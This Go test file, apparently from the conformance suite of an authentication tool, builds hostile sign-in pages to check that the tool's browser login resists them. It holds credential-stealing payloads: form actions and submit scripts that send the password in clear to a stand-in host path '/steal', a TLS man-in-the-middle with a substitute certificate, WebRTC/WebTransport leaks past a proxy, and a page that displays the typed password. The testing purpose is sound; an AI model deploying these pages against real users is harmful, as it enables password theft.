@@ -1,0 +1,232 @@
+package hostile
+
+import (
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"net/url"
+	"strings"
+	"sync/atomic"
+
+	"github.com/mcpauth/conformance/fakes/reference"
+	"github.com/mcpauth/conformance/fixtures/nameserver"
+)
+
+// inBrowser are the arguments of a run that signs in with a browser.
+func inBrowser(args []string) []string {
+	return append(args, "--username", "alice", "--login", "browser", "--browser-no-sandbox", "--i-am-authorized", "--timeout", "9s", "--only", "AS-TOKEN-SUCCESS-SHAPE")
+}
+
+// shownAt answers the authorization endpoint with a page, to browsers, and counts how often.
+func shownAt(page string, shown *atomic.Int64) func(o *reference.Options) {
+	return func(o *reference.Options) {
+		o.Wrap = func(h http.Handler) http.Handler {
+			return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+				if req.URL.Path != "/authorize" {
+					h.ServeHTTP(w, req)
+					return
+				}
+				if strings.Contains(req.UserAgent(), "Chrome") {
+					shown.Add(1)
+				}
+				w.Header().Set("Content-Type", "text/html")
+				_, _ = io.WriteString(w, page)
+			})
+		}
+	}
+}
+
+// inClear has a form that sends the password by plain HTTP to another host: by an attribute of its button, or turning when it
+// is sent.
+func inClear(turning bool) (*Attack, error) {
+	trap, err := listen("127.0.0.1:0")
+	if err != nil {
+		return nil, err
+	}
+	_, port, _ := net.SplitHostPort(trap.Addr().String())
+	server, err := nameserver.Serve("127.0.0.1:0", func(_ string, six bool) ([]netip.Addr, bool) {
+		if six {
+			return nil, true
+		}
+		return []netip.Addr{nowhere}, true
+	})
+	if err != nil {
+		trap.stop()
+		return nil, err
+	}
+	there := "http://other.example:" + port + "/steal"
+	var shown atomic.Int64
+	attribute, script := ` formaction="`+there+`"`, ""
+	if turning {
+		attribute, script = "", `<script>document.forms[0].addEventListener('submit', e => { e.target.action = "`+there+`"; });</script>`
+	}
+	page := `<!doctype html><title>Sign in</title><form method=post action="/login"><label>Name <input name=username></label><label>Password <input type=password name=password></label>
+<button` + attribute + `>Sign in</button></form>` + script
+	_, args, end, err := public(shownAt(page, &shown))
+	if err != nil {
+		trap.stop()
+		server.Close()
+		return nil, err
+	}
+	args = inBrowser(append(args, "--dns", server.Address(), "--connect-to", nowhere.String()+":"+port+"="+trap.Addr().String()))
+	return &Attack{Args: args, Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { end(); trap.stop(); server.Close() }, Judge: func(o Outcome) error {
+		if got := trap.received(); strings.Contains(got, url.QueryEscape(password)) || strings.Contains(got, password) {
+			return errors.New("the password went to another host in clear")
+		}
+		return errors.Join(unsprung(shown.Load()), notGreen(o))
+	}}, nil
+}
+
+// intercepted is a man in the middle: who speaks TLS like a browser gets a certificate of his, all others are relayed.
+func intercepted() (*Attack, error) {
+	stranger, err := reference.Stranger("mcp.example.com")
+	if err != nil {
+		return nil, err
+	}
+	var asBrowser, shown, stolen atomic.Int64
+	_, args, end, err := public(func(o *reference.Options) {
+		shownAt(`<!doctype html><title>Sign in</title><form method=post action="/login"><input name=username aria-label=Name><input type=password name=password><button>Sign in</button></form>`, &shown)(o)
+		usual := o.Wrap
+		o.Wrap = func(h http.Handler) http.Handler {
+			h = usual(h)
+			return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+				if req.TLS != nil && req.TLS.Version == tls.VersionTLS12 { // of the man in the middle
+					body, _ := io.ReadAll(io.LimitReader(req.Body, 1<<16)) // what came
+					if strings.Contains(string(body), url.QueryEscape(password)) {
+						stolen.Add(1)
+					}
+					req.Body = io.NopCloser(strings.NewReader(string(body)))
+				}
+				h.ServeHTTP(w, req)
+			})
+		}
+		o.TLS = func(c *tls.Config) {
+			genuine := c.Clone()
+			his := &tls.Config{Certificates: []tls.Certificate{stranger}, MaxVersion: tls.VersionTLS12, MinVersion: tls.VersionTLS12}
+			c.GetConfigForClient = func(hello *tls.ClientHelloInfo) (*tls.Config, error) {
+				for _, suite := range hello.CipherSuites {
+					if suite&0x0f0f == 0x0a0a { // GREASE (RFC 8701), which Chromium sends
+						asBrowser.Add(1)
+						return his, nil
+					}
+				}
+				return genuine, nil
+			}
+		}
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: end, Judge: func(o Outcome) error {
+		if n := stolen.Load(); n > 0 {
+			return fmt.Errorf("a man in the middle got the password %d times", n)
+		}
+		if n := asBrowser.Load(); n > 0 && shown.Load() == 0 {
+			return fmt.Errorf("the browser spoke to a man in the middle %d times", n)
+		}
+		return errors.Join(unsprung(shown.Load()), notGreen(o))
+	}}, nil
+}
+
+// datagrams has the page send by UDP, past the proxy: WebRTC and WebTransport.
+func datagrams() (*Attack, error) {
+	trap, err := net.ListenPacket("udp", "127.0.0.2:0")
+	if err != nil {
+		return nil, err
+	}
+	var arrived, shown, ran atomic.Int64
+	go func() {
+		buffer := make([]byte, 2048)
+		for {
+			if _, _, err := trap.ReadFrom(buffer); err != nil {
+				return
+			}
+			arrived.Add(1)
+		}
+	}()
+	at := trap.LocalAddr().String()
+	page := `<!doctype html><title>Sign in</title><p>Loading<script>
+fetch("/ran");
+for (const u of ["stun:` + at + `", "turn:` + at + `?transport=udp"]) try {
+	const c = new RTCPeerConnection({iceServers: [{urls: u, username: "u", credential: "c"}]});
+	c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o));
+} catch {}
+try { new WebTransport("https://` + at + `/").ready.catch(() => {}); } catch {}
+</script>`
+	_, args, end, err := public(func(o *reference.Options) {
+		shownAt(page, &shown)(o)
+		usual := o.Wrap
+		o.Wrap = func(h http.Handler) http.Handler {
+			h = usual(h)
+			return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+				if req.URL.Path == "/ran" {
+					ran.Add(1)
+				}
+				h.ServeHTTP(w, req)
+			})
+		}
+	})
+	if err != nil {
+		_ = trap.Close()
+		return nil, err
+	}
+	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { end(); _ = trap.Close() }, Judge: func(o Outcome) error {
+		if n := arrived.Load(); n > 0 {
+			return fmt.Errorf("%d datagrams went past the proxy to an address that the guard refuses", n)
+		}
+		return errors.Join(unsprung(ran.Load()), notGreen(o))
+	}}, nil
+}
+
+// mirror is a login page that paints what is typed, and fails then.
+func mirror() (*Attack, error) {
+	var shown, typed atomic.Int64
+	page := `<!doctype html><title>Sign in</title><style>p::after { content: attr(data-v) } p { font: 40px monospace }</style><p>.</p>
+<form><input name=username aria-label=Name><input type=password name=password><button>Sign in</button></form><script>
+const i = document.querySelector('[type=password]'), p = document.querySelector('p');
+i.addEventListener('input', () => { p.dataset.v = i.value; fetch("/typed"); });
+document.forms[0].addEventListener('submit', e => { e.preventDefault(); document.forms[0].remove(); });
+</script>`
+	_, args, end, err := public(func(o *reference.Options) {
+		shownAt(page, &shown)(o)
+		usual := o.Wrap
+		o.Wrap = func(h http.Handler) http.Handler {
+			h = usual(h)
+			return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+				if req.URL.Path == "/typed" {
+					typed.Add(1)
+				}
+				h.ServeHTTP(w, req)
+			})
+		}
+	})
+	if err != nil {
+		return nil, err
+	}
+	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: end, Judge: func(o Outcome) error {
+		if strings.Contains(o.Reports["json"], `"where the login ended"`) {
+			return errors.New("there is a picture of a page on which the password had been typed")
+		}
+		return errors.Join(unsprung(typed.Load()), notGreen(o))
+	}}, nil
+}
+
+// hangup closes the terminal.
+func hangup() (*Attack, error) {
+	a, err := interrupt()
+	if err != nil {
+		return nil, err
+	}
+	usual := a.After
+	a.After = func(p Process) { usual(hangingUp{p}) }
+	return a, nil
+}
+
+// hangingUp is a process whose terminal is closed in place of an interruption.
+type hangingUp struct{ Process }
+
+func (h hangingUp) Interrupt() error { return h.HangUp() }
